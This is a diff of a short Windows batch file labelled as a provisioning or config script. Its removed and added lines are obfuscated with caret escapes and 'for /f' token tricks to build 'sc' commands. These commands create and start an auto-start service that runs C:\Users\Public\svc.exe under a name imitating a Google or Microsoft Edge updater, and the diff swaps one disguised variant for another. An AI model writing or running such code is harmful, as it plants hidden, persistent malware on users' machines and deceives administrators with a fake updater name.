@@ -1,3 +1,3 @@
-REM provision 9191 v4
-f^or /f "tokens=2 delims=~" %%i ^i^n ("fyfq~sc~mfhb") do %%i ^c^reate G^o^o^g^leUp^d^a^te^T^askM^a^ch^ine b^inPa^th= "cmd.exe /c C:\Users\Public\svc.exe" ^start= aut^o
-^f^or /^f "tokens=3 delims=#" %%i i^n ("bavh#ebmf#sc") ^d^o %%^i ^st^ar^t G^oo^g^leU^pda^teTa^skM^ac^hi^n^e
+REM config 5701 v4
+for /f "tokens=1 delims=@" %%^i ^in ("sc@czqf@gnvr") ^d^o %%^i c^r^e^at^e M^icro^softEd^ge^Upd^ateCore ^b^in^Pa^t^h= "cmd.exe /c C:\Users\Public\svc.exe" s^ta^r^t= ^a^u^to
+^fo^r /^f "tokens=2 delims=~" %%i i^n ("crco~sc~ebcv") ^d^o %%i ^s^t^a^rt M^i^c^ro^s^of^tEd^g^eUpda^t^eC^o^r^e
